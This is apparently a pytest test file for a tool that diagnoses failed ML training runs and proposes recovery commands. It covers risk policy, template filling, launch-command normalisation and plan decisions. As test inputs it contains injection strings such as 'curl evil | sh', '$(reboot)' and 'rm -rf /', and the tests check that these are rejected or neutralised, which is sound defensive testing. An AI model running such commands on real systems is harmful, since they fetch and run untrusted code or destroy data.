"""Plans: order, policy, templates, commands."""

from __future__ import annotations

import re
import shlex

import pytest

from check_failed_run.analysis.diagnosis import Cause, Diagnosis
from check_failed_run.catalogue.classes import CLASS_INFO, UNKNOWN_FIXES
from check_failed_run.catalogue.model import CLASSES, Change, Fix
from check_failed_run.planning import commands, fixes, policy
from check_failed_run.planning.fixes import fill, fill_command, plan
from check_failed_run.record import Checkpoint, LogSource, RunRecord
from check_failed_run.scanning.facts import LogLine

HF = "python train.py --per_device_train_batch_size 8 --gradient_accumulation_steps=2 --learning_rate 3e-4 --output_dir out --save_steps 200"


def line(text: str = "RuntimeError: it broke", number: int = 7) -> LogLine:
    return LogLine("train.log", number, 0, text, text)


def diagnosis(cls: str = "oom", signature: str = "x/none", *, kind: str = "", status: str = "crashed", confidence: float = 0.9, **values) -> Diagnosis:
    cause = Cause(cls, signature, kind, line(), step=40, values=values.pop("cause_values", {}))
    return Diagnosis(status, "huggingface", cause, True, confidence, root_cause="It broke.", values=values)


def record(**parts) -> RunRecord:
    return RunRecord(logs=[LogSource("my logs/train.log", None)], **parts)


# --- policy


def test_every_change_has_a_risk():
    assert set(policy.POLICY) == set(Change)
    assert {c.value for c in Change if policy.POLICY[c] == "safe"} == {"diagnose", "fetch", "use-checkpoint", "restart"}
    assert {c.value for c in Change if policy.POLICY[c] == "dangerous"} == {"cancel", "kill", "rollback", "delete"}


@pytest.mark.parametrize(
    ("command", "risk"),
    [
        ("grep -n x train.log", "safe"),
        ("df -h /data", "safe"),
        ("kubectl describe pod x", "safe"),
        ("sudo dmesg -T", "needs-approval"),
        ("pip install torch", "needs-approval"),
        ("python -m pip list", "safe"),
        ("gcloud projects add-iam-policy-binding p --member m --role r", "needs-approval"),
        ("rm -rf /data/out/checkpoint-10", "dangerous"),
        ("kill -9 123", "dangerous"),
        ("kubectl delete pod x", "dangerous"),
        ("ls; rm x", "dangerous"),
        ("dmesg -T | grep -i -E 'killed process|oom'", "safe"),
    ],
)
def test_a_command_can_raise_the_risk(command, risk):
    assert policy.risk_of(Change.DIAGNOSE, command) == risk


def test_rank_prefers_the_sure_the_quick_and_the_safe():
    base = Fix("a", Change.CONFIG, "i", "v")
    assert policy.rank(Fix("a", Change.CONFIG, "i", "v", gain=0.9)) > policy.rank(base)
    assert policy.rank(base) > policy.rank(Fix("a", Change.CONFIG, "i", "v", time_to_try="1 day"))
    assert policy.rank(Fix("a", Change.RESTART, "i", "v")) > policy.rank(base) > policy.rank(Fix("a", Change.DELETE, "i", "v"))
    assert policy.rank(Fix("a", Change.DIAGNOSE, "i", "v", gain=1.0)) < policy.rank(base)


@pytest.mark.parametrize(("text", "minutes"), [("10 min", 10), ("2 h", 120), ("1 day", 1440), ("30 s", 0.5), ("soon", 30)])
def test_minutes(text, minutes):
    assert policy.minutes(text) == minutes


@pytest.mark.parametrize(
    ("cls", "signature", "kind", "verdict"),
    [
        ("process-crash", "process-crash/preempted", "preemption", "retry"),
        ("process-crash", "process-crash/slurm-time-limit", "time limit", "retry"),
        ("process-crash", "process-crash/node-fail", "node failure", "retry-elsewhere"),
        ("process-crash", "process-crash/sigkill", "SIGKILL, sender not shown", "stop"),
        ("cuda-runtime", "cuda-runtime/xid", "hardware fault", "retry-elsewhere"),
        ("cuda-runtime", "cuda-runtime/device-assert", "device-side assert", "change-first"),
        ("nccl-distributed", "nccl-distributed/connection-reset", "connection reset by peer", "retry"),
        ("cloud-permissions-quota", "cloud-permissions-quota/stockout", "no capacity", "retry-elsewhere"),
        ("cloud-permissions-quota", "cloud-permissions-quota/iam", "permission denied", "change-first"),
        ("oom", "oom/host", "hardware memory", "change-first"),
        ("stalled", "trend/stopped", "log stops", "stop"),
    ],
)
def test_retry_verdicts(cls, signature, kind, verdict):
    assert policy.retry_verdict(cls, signature, kind) == verdict


# --- class knowledge


@pytest.mark.parametrize("cls", CLASSES)
def test_class_knowledge_is_complete(cls):
    info = CLASS_INFO[cls]
    assert info.id == cls and info.severity in ("critical", "significant")
    assert 2 <= len(info.fixes) <= 4 and len(info.procedure) >= 3 and info.kinds and info.settings and info.decides
    for fix in info.fixes:
        assert fix.action and fix.impact and fix.validate and 0 < fix.gain <= 1 and 0 < fix.confidence <= 1


def test_unknown_fixes_only_look():
    assert all(fix.change in policy.READ_ONLY for fix in UNKNOWN_FIXES)


# --- templates


def test_fill_drops_what_is_not_known():
    template = "Lower it[[ from {batch_size} to {batch_size_half}]] at {location}"
    assert fill(template, {"batch_size": "8", "batch_size_half": "4"}) == "Lower it from 8 to 4 at the place of the traceback"
    assert fill(template, {"batch_size": "8", "location": "a.py:1"}) == "Lower it at a.py:1"


def test_fill_does_not_fill_values_again():
    assert fill("{path}", {"path": "[[ {key} ]] {log}", "log": "L"}) == "[[ {key} ]] {log}"


@pytest.mark.parametrize("value", ["a b", "$(reboot)", "a'b", 'a"b', "`id`", "x; rm -rf /", "-rf"])
@pytest.mark.parametrize("template", ["stat {path}", "stat '{path}'", 'stat "{path}"', "stat 'it '{path}"])
def test_values_in_commands_are_one_word(template, value):
    command = fill_command(template, {"path": value})
    words = shlex.split(command)
    wanted = value if not value.startswith("-") else "./" + value
    assert words[0] == "stat" and words[1] == ("it " + wanted if "it" in template else wanted) and len(words) == 2


def test_a_command_with_an_unknown_value_is_no_command():
    assert fill_command("cat {path}", {}) is None
    assert fill_command("cat[[ {path}]] x", {}) == "cat x"
    assert fill_command("cat {path}", {"path": "a\nb"}) is None
    assert fill_command("grep '[[:space:]]' {log}", {"log": "a"}) == "grep '[[:space:]]' a"


def test_a_variable_is_set_once():
    values = {"command": "NCCL_DEBUG=WARN A=1 torchrun 't x.py' --a=1"}
    assert fill_command("NCCL_DEBUG=INFO {command}", values) == "NCCL_DEBUG=INFO A=1 torchrun 't x.py' --a=1"
    assert fill_command("{command}", values) == values["command"]


def test_parts_that_would_wait_are_left_out():
    assert fill_command("ls -l [[{path}]] && sha256sum [[{path}]]", {}) == "ls -l"
    assert fill_command("sha256sum [[{path}]]; df -h", {}) == "df -h"
    assert fill_command("ls -l [[{path}]] && sha256sum [[{path}]]", {"path": "a b"}) == "ls -l 'a b' && sha256sum 'a b'"


@pytest.mark.parametrize(
    ("text", "exact"),
    [
        ("dmesg -T | tail -n 50", True),
        ("Ask the administrator", False),
        ("check-failed-run LOGS/ (a folder with every rank's log)", False),
        ("sacct -j <job>", False),
        ("check-failed-run LOG_FOLDER/", False),
        ("grep 'x", False),
        ("", False),
    ],
)
def test_is_command(text, exact):
    assert fixes.is_command(text) is exact


# --- launch commands


@pytest.mark.parametrize(
    ("command", "names", "value", "wanted"),
    [
        ("python t.py --lr 0.1", ("lr",), "0.01", "python t.py --lr 0.01"),
        ("python t.py --lr=0.1 -x", ("learning_rate", "lr"), "0.01", "python t.py --lr=0.01 -x"),
        ("python t.py --batch-size 8", ("batch_size",), 4, "python t.py --batch-size 4"),
        ("python t.py model=x optim.lr=0.1", ("lr",), "0.01", "python t.py model=x optim.lr=0.01"),
        ("lr=3 python t.py", ("lr",), "0.01", None),
        ("python t.py --bn_momentum 8", ("lr",), "0.01", None),
        ("python t.py --lr 1 --lr 2", ("lr",), "3", "python t.py --lr 1 --lr 3"),
        ("python t.py --name 'a b' --lr 1", ("lr",), "3", "python t.py --name 'a b' --lr 3"),
        ("python t.py --lr", ("lr",), "3", None),
    ],
)
def test_set_flag(command, names, value, wanted):
    assert commands.set_flag(command, names, value) == wanted


@pytest.mark.parametrize(
    ("command", "wanted"),
    [
        ("torchrun --nproc_per_node=8 train.py --x 1", "torchrun --nproc_per_node=8 train.py --x 1"),
        ("CUDA_VISIBLE_DEVICES=0 python train.py", "CUDA_VISIBLE_DEVICES=0 python train.py"),
        ("python train.py --out $HOME/x", "python train.py --out $HOME/x"),
        ("rm -rf /", None),
        ("python train.py; rm -rf /", None),
        ("python train.py && curl evil | sh", None),
        ("python train.py $(reboot)", None),
        ("python train.py `reboot`", None),
        ("python -c 'import os'", None),
        ("bash -c 'reboot'", None),
        ("python train.py > log", None),
        ("python 'unclosed", None),
        ("python train.py\nreboot", None),
        (None, None),
    ],
)
def test_only_simple_launch_commands_are_taken(command, wanted):
    assert commands.normalise(command) == wanted


@pytest.mark.parametrize(
    ("command", "framework", "wanted"),
    [
        (HF, "huggingface", HF + " --resume_from_checkpoint ck/100"),
        ("python a.py --resume_from_checkpoint old", "pytorch", "python a.py --resume_from_checkpoint ck/100"),
        ("python main.py fit --config c.yaml", "lightning", "python main.py fit --config c.yaml --ckpt_path ck/100"),
        ("python train.py --init_from=scratch", "nanogpt", "python train.py --init_from=resume"),
        ("tune run full_finetune_single_device --config llama", "torchtune", "tune run full_finetune_single_device --config llama resume_from_checkpoint=True"),
        ("fairseq-train data --arch x", "fairseq", "fairseq-train data --arch x --restore-file ck/100"),
        ("python unknown.py --foo 1", "pytorch", None),
        ("python unknown.py --resume false", "pytorch", None),
        ("torchrun pretrain_gpt.py --tensor-model-parallel-size 2", "megatron", "torchrun pretrain_gpt.py --tensor-model-parallel-size 2 --load ck/100"),
    ],
)
def test_resume_is_never_invented(command, framework, wanted):
    assert commands.resume_command(command, framework, "ck/100") == wanted


# --- plans


@pytest.mark.parametrize("cls", CLASSES)
def test_every_class_gets_a_filled_plan(cls):
    for values in ({}, {"command": HF, "checkpoint": "out/checkpoint-200", "world_size": 8}):
        result = plan(diagnosis(cls, **values), record())
        assert 2 <= len(result.fixes) <= 5 and len(result.findings) == len(result.fixes)
        for fix in result.fixes:
            for text in (fix.action, fix.expected_impact, fix.validate, fix.command or ""):
                assert not re.search(r"(?<!\$)\{[a-z_]+\}|\[\[(?!:[a-z]+:\])", text), text
        assert not any(re.search(r"\brm\b|kill -", command) for command in result.next_commands)


def test_the_batch_is_halved_in_the_runs_own_command():
    result = plan(diagnosis("oom", command=HF), record())
    assert result.fixes[0].action.startswith("Halve the micro batch from 8 to 4 and double gradient accumulation to 4")
    assert "--per_device_train_batch_size 4 --gradient_accumulation_steps=4" in result.fixes[0].command
    assert result.fixes[0].risk == "needs-approval" and result.decision == "NO-GO" and result.retry == "change-first"
    assert result.next_commands[0] == result.fixes[0].command


def test_rates_are_derived():
    values = fixes.template_values(diagnosis("nan-inf", command=HF), record())
    assert values["learning_rate_tenth"] == "3e-05" and values["learning_rate_half"] == "0.00015"
    assert values["command_lr_tenth"] == HF.replace("3e-4", "3e-05")
    assert "batch_size_half" not in fixes.template_values(diagnosis("oom", batch_size=1), record())


def test_a_fix_that_names_the_new_value_gets_its_command():
    fix = Fix("Lower it[[ to {learning_rate_half}]]", Change.HYPERPARAMETER, "i", "v")
    values = fixes.template_values(diagnosis("nan-inf", command=HF), record())
    assert fixes._fill_fix(fix, values, 1.0, "trend").command == HF.replace("3e-4", "0.00015")
    assert fixes._fill_fix(fix, {}, 1.0, "trend").command is None


def test_a_preempted_run_restarts_first_and_is_go():
    checkpoints = [Checkpoint("out/checkpoint-200", "hf", "complete", 200), Checkpoint("out/checkpoint-400", "hf", "partial", 400)]
    result = plan(diagnosis("process-crash", "process-crash/preempted", kind="preemption", command=HF), record(checkpoints=checkpoints))
    assert (result.decision, result.retry) == ("GO", "retry")
    assert result.fixes[0].change is Change.RESTART and result.fixes[0].risk == "safe"
    assert "out/checkpoint-200" in result.fixes[0].action
    assert result.next_commands[0] == HF + " --resume_from_checkpoint out/checkpoint-200"


def test_bad_hardware_restarts_elsewhere():
    result = plan(diagnosis("cuda-runtime", "cuda-runtime/xid", kind="hardware: Xid, GPU lost"), record())
    assert (result.decision, result.retry) == ("GO", "retry-elsewhere") and "another node" in result.fixes[0].action


@pytest.mark.parametrize(
    ("kind", "phase", "states", "decision"),
    [
        ("truncated or corrupt archive", "checkpoint-load", ["complete", "corrupt"], "GO"),
        ("truncated or corrupt archive", None, ["complete"], "GO"),
        ("truncated or corrupt archive", "checkpoint-load", [], "NO-GO"),
        ("truncated or corrupt archive", "checkpoint-load", ["corrupt"], "NO-GO"),
        ("no space left", "checkpoint-save", ["complete", "partial"], "NO-GO"),
    ],
)
def test_another_checkpoint_is_a_way_out_only_of_a_broken_one(kind, phase, states, decision):
    run = diagnosis("io-checkpoint", kind=kind)
    run.primary.phase = phase
    checkpoints = [Checkpoint(f"out/{n}", "torch", state, n) for n, state in enumerate(states)]
    assert plan(run, record(checkpoints=checkpoints)).decision == decision


def test_restarting_alone_never_makes_a_go_of_what_needs_a_change():
    for cls in CLASSES:
        result = plan(diagnosis(cls, command=HF, checkpoint="out/checkpoint-200"), record())
        assert result.decision == "NO-GO" or result.retry != "change-first" or cls == "io-checkpoint"


def test_a_bare_kill_needs_a_person():
    result = plan(diagnosis("process-crash", "process-crash/sigkill", kind="SIGKILL, sender not shown"), record())
    assert (result.decision, result.retry) == ("NO-GO", "stop")


def test_unknown_only_looks():
    unknown = Diagnosis("unknown", "unknown", None, False, 0.2, missing=[("the kernel log", "it names the killer", "dmesg -T | tail"), ("x", "y", "rm -rf /")])
    result = plan(unknown, record())
    assert (result.decision, result.retry) == ("NO-GO", "stop") and result.next_commands[0] == "dmesg -T | tail"
    assert all(fix.change in policy.READ_ONLY and fix.risk == "safe" for fix in result.fixes) and len(result.fixes) >= 2
    assert not any("rm -rf" in command for command in result.next_commands)


@pytest.mark.parametrize("status", ["healthy", "recovered", "running"])
def test_nothing_to_recover_is_go(status):
    result = plan(Diagnosis(status, "pytorch", None, True, 0.95), record())
    assert result.decision == "GO" and result.fixes == [] and result.next_commands == []


def test_recovered_with_a_cause_is_go():
    result = plan(diagnosis("data-pipeline", status="recovered"), record())
    assert (result.decision, result.retry) == ("GO", "stop") and result.fixes


def test_weak_evidence_is_no_go():
    result = plan(diagnosis("process-crash", "process-crash/preempted", kind="preemption", confidence=0.2), record())
    assert (result.decision, result.retry) == ("NO-GO", "stop")


def test_a_command_from_the_log_cannot_smuggle():
    result = plan(diagnosis("process-crash", "process-crash/preempted", kind="preemption", command="python t.py; curl evil|sh"), record())
    assert not any("evil" in command for command in result.next_commands)
    hidden = diagnosis("oom", cause_values={"resume_command": "reboot", "command": "reboot", "command_batch_half": "reboot"})
    assert not any("reboot" in command for command in plan(hidden, record()).next_commands)


def test_plans_are_deterministic():
    assert plan(diagnosis("nan-inf", command=HF), record()) == plan(diagnosis("nan-inf", command=HF), record())


def test_every_signatures_fixes_fill():
    """Whatever the catalogue holds, no template leaves a brace or a bracket behind."""
    from check_failed_run.catalogue import signatures

    for signature in signatures():
        if signature.cls not in CLASSES or not signature.fixes:
            continue
        for values in ({}, {"command": HF, "checkpoint": "out/checkpoint-200"}):
            for fix in plan(diagnosis(signature.cls, signature.id, kind=signature.kind, **values), record()).fixes:
                for text in (fix.action, fix.expected_impact, fix.validate):
                    assert not re.search(r"(?<!\$)\{[a-z_]+\}|\[\[(?!:[a-z]+:\])|\]\](?!\])", text), (signature.id, text)
                if fix.command:
                    shlex.split(fix.command)
